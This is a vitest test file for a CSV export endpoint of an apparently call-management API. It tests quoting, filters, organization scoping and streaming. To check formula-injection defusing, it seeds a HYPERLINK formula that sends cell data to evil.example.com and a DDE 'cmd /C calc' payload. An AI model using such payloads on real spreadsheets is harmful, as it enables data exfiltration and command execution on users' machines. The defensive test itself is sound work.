import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { newId } from '../src/lib/ids.js';
import { type Org, startTestApp, type TestApp } from './helpers/app.js';

// GET /v1/calls/export.csv (issue 18 §2, decision 0041): GET /v1/calls's filters and sort, every
// matching call as one RFC 4180 file, cells a spreadsheet would run as formulas defused, streamed
// in keyset batches so a large export never sits in memory.
let t: TestApp;
let org: Org;
let stranger: Org;
let collector: { id: string };
let plain: { id: string };

/** RFC 4180 records: quoted fields may hold commas, quotes (doubled), CR and LF; records end in CRLF. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  let i = 0;
  while (i < text.length) {
    const c = text[i] as string;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i += 2;
      } else if (c === '"') {
        quoted = false;
        i++;
      } else {
        field += c;
        i++;
      }
    } else if (c === '"' && field === '') {
      quoted = true;
      i++;
    } else if (c === ',') {
      record.push(field);
      field = '';
      i++;
    } else if (c === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i += 2;
    } else {
      // A bare CR, LF or quote outside a quoted field is not RFC 4180.
      if (c === '\r' || c === '\n' || c === '"') throw new Error(`bare ${JSON.stringify(c)} at ${i}`);
      field += c;
      i++;
    }
  }
  if (field !== '' || record.length > 0) throw new Error('the last record does not end in CRLF');
  return records;
}

interface Inserted {
  agentId: string;
  direction?: 'outbound' | 'inbound';
  from?: string | null;
  to: string;
  status?: string;
  outcome?: string | null;
  durationSeconds?: number | null;
  createdAt: string;
  summary?: string | null;
  endedReason?: string | null;
  collectedData?: Record<string, unknown>;
  variables?: Record<string, string>;
}

async function insertCall(o: Org, call: Inserted): Promise<string> {
  const id = newId('call');
  await t.db.database.db.execute(sql`
    insert into calls (id, organization_id, agent_id, provider, direction, from_number, to_number, status, outcome,
      ended_reason, summary, variables, collected_data, transcript, created_at, duration_seconds, deadline_at)
    values (${id}, ${o.organization.id}, ${call.agentId}, 'simulator', ${call.direction ?? 'outbound'},
      ${call.from === undefined ? '+15555550100' : call.from}, ${call.to}, ${call.status ?? 'ended'},
      ${call.outcome === undefined ? 'SOLD' : call.outcome}, ${call.endedReason ?? null}, ${call.summary ?? null},
      ${JSON.stringify(call.variables ?? {})}::jsonb, ${JSON.stringify(call.collectedData ?? {})}::jsonb, '[]',
      ${call.createdAt}::timestamptz, ${call.durationSeconds === undefined ? 30 : call.durationSeconds},
      now() + interval '1 day')`);
  return id;
}

/** The export as text, with its status and headers. */
async function exportCsv(query = '', headers: Record<string, string> = org.auth) {
  const response = await fetch(`${t.url}/v1/calls/export.csv${query ? `?${query}` : ''}`, { headers });
  return { status: response.status, headers: response.headers, text: await response.text() };
}

const HEADER = [
  'id',
  'createdAt',
  'direction',
  'agentId',
  'from',
  'to',
  'status',
  'outcome',
  'endedReason',
  'durationSeconds',
  'summary',
];

let ids: Record<string, string> = {};

beforeAll(async () => {
  t = await startTestApp();
  org = await t.signup();
  stranger = await t.signup();
  collector = await t.createAgent(org, {
    name: 'Collector',
    type: 'outbound',
    collect: [
      { name: 'email', type: 'string', description: 'Their email' },
      { name: 'age', type: 'number', description: 'Their age' },
      { name: 'subscribed', type: 'boolean' },
    ],
  });
  plain = await t.createAgent(org, { name: 'Plain', type: 'outbound' });
  ids = {
    quoting: await insertCall(org, {
      agentId: collector.id,
      to: '+14155550001',
      createdAt: '2026-03-01T10:00:00.000Z',
      summary: 'Said "yes", then: call back\r\nTuesday\nat 9, please',
      endedReason: 'customer-ended-call',
      collectedData: { email: 'ada@example.com', age: 36, subscribed: true },
      variables: { name: 'Ada, Countess', plan: 'pro "gold"' },
    }),
    formulas: await insertCall(org, {
      agentId: collector.id,
      direction: 'inbound',
      from: '+442071838750',
      to: '+15555550100',
      outcome: 'NOT_INTERESTED',
      durationSeconds: null,
      status: 'ended',
      createdAt: '2026-03-01T11:00:00.000Z',
      summary: '=HYPERLINK("https://evil.example.com/?d="&A1,"Click")',
      collectedData: { email: "@SUM(1+1)*cmd|' /C calc'!A0", age: -5 },
      variables: {},
    }),
    more: await insertCall(org, {
      agentId: collector.id,
      to: '+14155550003',
      outcome: 'SOLD',
      createdAt: '2026-03-01T12:00:00.000Z',
      summary: '\tTabbed',
      collectedData: { email: '+1+2', age: 0 },
    }),
    returned: await insertCall(org, {
      agentId: plain.id,
      to: '+16505550004',
      outcome: 'NO_ANSWER',
      durationSeconds: 0,
      createdAt: '2026-03-01T13:00:00.000Z',
      summary: '\rCarriage',
      collectedData: { note: '-2+3', nested: { a: [1, 2] } },
    }),
  };
});
afterAll(async () => {
  await t.close();
});

describe('GET /v1/calls/export.csv: the file', () => {
  it('answers a CSV attachment named by the date, never taken for the call "export.csv"', async () => {
    const answer = await exportCsv();
    expect(answer.status).toBe(200);
    expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const today = new Date().toISOString().slice(0, 10);
    expect(answer.headers.get('content-disposition')).toBe(`attachment; filename="calls-${today}.csv"`);
    const records = parseCsv(answer.text);
    // Without an agent, collected data is one JSON column.
    expect(records[0]).toEqual([...HEADER, 'collectedData', 'variables']);
    expect(records.slice(1).map((record) => record[0])).toEqual([ids.returned, ids.more, ids.formulas, ids.quoting]);
  });

  it('has a column per field the agent declares when exported by agent, values written as text', async () => {
    const records = parseCsv((await exportCsv(`agentId=${collector.id}&sort=createdAt`)).text);
    expect(records[0]).toEqual([...HEADER, 'collected.email', 'collected.age', 'collected.subscribed', 'variables']);
    expect(records[1]).toEqual([
      ids.quoting,
      '2026-03-01T10:00:00.000Z',
      'outbound',
      collector.id,
      '+15555550100',
      '+14155550001',
      'ended',
      'SOLD',
      'customer-ended-call',
      '30',
      // Commas, doubled quotes, CRLF and LF inside one quoted field come back as they were.
      'Said "yes", then: call back\r\nTuesday\nat 9, please',
      'ada@example.com',
      '36',
      'true',
      '{"name":"Ada, Countess","plan":"pro \\"gold\\""}',
    ]);
    expect(records).toHaveLength(4);
  });

  it('quotes exactly the fields that need it, as RFC 4180 writes them', async () => {
    const text = (await exportCsv(`agentId=${collector.id}&sort=createdAt`)).text;
    const lines = text.split('\r\n');
    expect(lines[0]).toBe(`${HEADER.join(',')},collected.email,collected.age,collected.subscribed,variables`);
    expect(lines[1]).toBe(
      `${ids.quoting},2026-03-01T10:00:00.000Z,outbound,${collector.id},+15555550100,+14155550001,ended,SOLD,customer-ended-call,30,"Said ""yes"", then: call back`,
    );
    expect(text.endsWith('\r\n')).toBe(true);
  });

  it("defuses cells a spreadsheet would run as a formula with a leading ', and leaves plain numbers alone", async () => {
    const byId = new Map(
      parseCsv((await exportCsv()).text)
        .slice(1)
        .map((record) => [record[0], record]),
    );
    const formulas = byId.get(ids.formulas) as string[];
    expect(formulas[4]).toBe('+442071838750');
    expect(formulas[5]).toBe('+15555550100');
    expect(formulas[9]).toBe('');
    expect(formulas[10]).toBe('\'=HYPERLINK("https://evil.example.com/?d="&A1,"Click")');
    expect(JSON.parse(formulas[11] as string)).toEqual({ email: "@SUM(1+1)*cmd|' /C calc'!A0", age: -5 });
    expect((byId.get(ids.more) as string[])[10]).toBe("'\tTabbed");
    expect((byId.get(ids.returned) as string[])[10]).toBe("'\rCarriage");

    const declared = new Map(
      parseCsv((await exportCsv(`agentId=${collector.id}`)).text)
        .slice(1)
        .map((record) => [record[0], record]),
    );
    expect((declared.get(ids.formulas) as string[]).slice(11, 14)).toEqual(["'@SUM(1+1)*cmd|' /C calc'!A0", '-5', '']);
    expect((declared.get(ids.more) as string[]).slice(11, 13)).toEqual(["'+1+2", '0']);
    // No cell of the file starts a formula.
    for (const record of declared.values()) for (const cell of record) expect(cell).not.toMatch(/^[=+\-@\t\r](?!\d+$)/);
  });
});

describe('GET /v1/calls/export.csv: the filters and sort of GET /v1/calls', () => {
  const listed = async (query: string) => {
    const answer = await t.request('GET', `/v1/calls?limit=100&${query}`, { headers: org.auth });
    expect(answer.status).toBe(200);
    return answer.body.data.map((call: { id: string }) => call.id);
  };
  const exported = async (query: string) => {
    const answer = await exportCsv(query);
    expect(answer.status).toBe(200);
    return parseCsv(answer.text)
      .slice(1)
      .map((record) => record[0]);
  };

  for (const query of [
    'outcome=SOLD',
    'direction=inbound',
    'status=ended&sort=durationSeconds',
    'sort=-durationSeconds',
    'since=2026-03-01T11:00:00Z&until=2026-03-01T13:00:00Z',
    'phone=%2B1415',
    'phone=44',
    'agentId=AGENT&outcome=SOLD&sort=createdAt',
    'outcome=NOTHING_LIKE_IT',
  ])
    it(`?${query}: the calls the list shows, in its order`, async () => {
      const q = query.replace('AGENT', collector.id);
      const want = await listed(q);
      expect(await exported(q)).toEqual(want);
    });

  it('spells out what two filters export', async () => {
    expect(await exported('outcome=SOLD&sort=createdAt')).toEqual([ids.quoting, ids.more]);
    expect(await exported('phone=%2B44')).toEqual([ids.formulas]);
    expect(await exported('sort=durationSeconds')).toEqual([ids.returned, ids.quoting, ids.more, ids.formulas]);
  });

  it('refuses a bad filter with a JSON 422 naming it, before any CSV', async () => {
    for (const [query, path] of [
      ['phone=%2B1%25', 'query.phone'],
      ['since=soon', 'query.since'],
      ['sort=id', 'query.sort'],
      ['limit=10', 'query.limit'],
      ['cursor=abc', 'query.cursor'],
      ['since=2026-03-02T00:00:00Z&until=2026-03-01T00:00:00Z', 'query.until'],
    ]) {
      const answer = await t.request('GET', `/v1/calls/export.csv?${query}`, { headers: org.auth });
      expect(answer.status).toBe(422);
      expect(answer.headers.get('content-type')).toMatch(/^application\/json/);
      expect(answer.body.details.map((d: { path: string }) => d.path)).toContain(path);
    }
  });
});

describe('GET /v1/calls/export.csv: who may export what', () => {
  it('needs an API key or a session', async () => {
    expect((await exportCsv('', {})).status).toBe(401);
    const email = `export-${Date.now()}@example.com`;
    const signup = await t.request('POST', '/v1/signup', {
      body: { organization: 'Export Co', email, password: 'correct horse battery' },
    });
    const cookie = (signup.headers.get('set-cookie') ?? '').split(';')[0] as string;
    const bySession = await exportCsv('', { cookie });
    expect(bySession.status).toBe(200);
    expect(parseCsv(bySession.text)).toEqual([[...HEADER, 'collectedData', 'variables']]);
  });

  it("exports only the organization's own calls, whatever agent it names", async () => {
    const theirs = await exportCsv('', stranger.auth);
    expect(parseCsv(theirs.text)).toHaveLength(1);
    const named = await exportCsv(`agentId=${collector.id}`, stranger.auth);
    expect(named.status).toBe(200);
    // Another organization's agent is not looked into: no columns from its collect, no rows.
    expect(parseCsv(named.text)).toEqual([[...HEADER, 'collectedData', 'variables']]);
  });
});

describe('GET /v1/calls/export.csv: a large export, streamed', () => {
  it('sends the first rows before it has read the last ones, and every row once, in order', async () => {
    const big = await t.signup();
    const agent = await t.createAgent(big, { name: 'Busy', type: 'outbound' });
    // PGlite writes and reads far slower: fewer rows there, each with a longer summary. Either way
    // the file is some 40 MB, far more than the sockets between server and test hold unread.
    const rows = t.db.engine === 'postgres' ? 100_000 : 20_000;
    const summary = 'a call of note '.repeat(t.db.engine === 'postgres' ? 27 : 135);
    // One statement: rows a second apart.
    await t.db.database.db.execute(sql`
      insert into calls (id, organization_id, agent_id, provider, direction, from_number, to_number, status, outcome,
        summary, variables, collected_data, transcript, created_at, duration_seconds, deadline_at)
      select 'call_' || lpad(to_hex(i), 26, '0'), ${big.organization.id}, ${agent.id}, 'simulator', 'outbound',
        '+15555550100', '+1415' || lpad(i::text, 7, '0'), 'ended', 'SOLD', ${summary},
        jsonb_build_object('n', i::text), jsonb_build_object('i', i), '[]',
        timestamptz '2026-02-01T00:00:00Z' + i * interval '1 second', i % 600, now() + interval '1 day'
      from generate_series(1, ${rows}) as i`);

    const response = await fetch(`${t.url}/v1/calls/export.csv?sort=createdAt`, { headers: big.auth });
    expect(response.status).toBe(200);
    const reader = (response.body as ReadableStream<Uint8Array>).getReader();
    const decoder = new TextDecoder();
    const first = await reader.read();
    expect(first.done).toBe(false);
    let text = decoder.decode(first.value, { stream: true });
    expect(text.startsWith('id,createdAt,direction,')).toBe(true);

    // A call created after the first bytes arrived, last in this order: the file holds it only if
    // its last batch was read after the first was sent, i.e. the export is read as it is sent.
    const late = newId('call');
    await t.db.database.db.execute(sql`
      insert into calls (id, organization_id, agent_id, provider, direction, from_number, to_number, status, outcome,
        variables, collected_data, transcript, created_at, duration_seconds, deadline_at)
      values (${late}, ${big.organization.id}, ${agent.id}, 'simulator', 'outbound', '+15555550100', '+14155550000',
        'ended', 'SOLD', '{}', '{}', '[]', timestamptz '2027-01-01T00:00:00Z', 1, now() + interval '1 day')`);

    for (;;) {
      const chunk = await reader.read();
      if (chunk.done) break;
      text += decoder.decode(chunk.value, { stream: true });
    }
    text += decoder.decode();
    expect(text.length).toBeGreaterThan(35_000_000);
    const lines = text.split('\r\n');
    expect(lines.pop()).toBe('');
    expect(lines).toHaveLength(1 + rows + 1);
    const idsInFile = lines.slice(1).map((line) => line.slice(0, line.indexOf(',')));
    expect(idsInFile.at(-1)).toBe(late);
    expect(new Set(idsInFile).size).toBe(rows + 1);
    // Oldest first, as sort=createdAt asks, across every batch boundary.
    expect(idsInFile[0]).toBe(`call_${'1'.padStart(26, '0')}`);
    expect(idsInFile[rows - 1]).toBe(`call_${rows.toString(16).padStart(26, '0')}`);
    const sorted = idsInFile.slice(0, rows);
    expect(sorted.every((id, i) => i === 0 || (sorted[i - 1] as string) < id)).toBe(true);
  }, 60_000);
});
